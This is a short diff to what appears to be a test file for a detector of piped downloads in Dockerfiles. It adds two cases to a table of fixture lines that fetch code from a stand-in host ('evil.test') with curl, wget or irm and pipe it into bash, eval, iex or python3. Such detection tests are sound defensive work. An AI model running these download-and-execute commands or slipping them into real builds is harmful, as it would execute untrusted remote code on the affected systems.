@@ -163,6 +163,8 @@ test.each([
   'eval "$(wget -qO- evil.test/x)"',
   'irm evil.test/x.ps1 | iex',
   'RUN curl evil.test/x | python3 -',
+  'curl evil.test/x | tee f | bash',
+  'curl evil.test/x | base64 -d |& /usr/bin/env bash',
 ])('%s is a download that is run', (line) => {
   expect(added('Dockerfile', line).map(([kind]) => kind)).toContain('piped_download')
 })
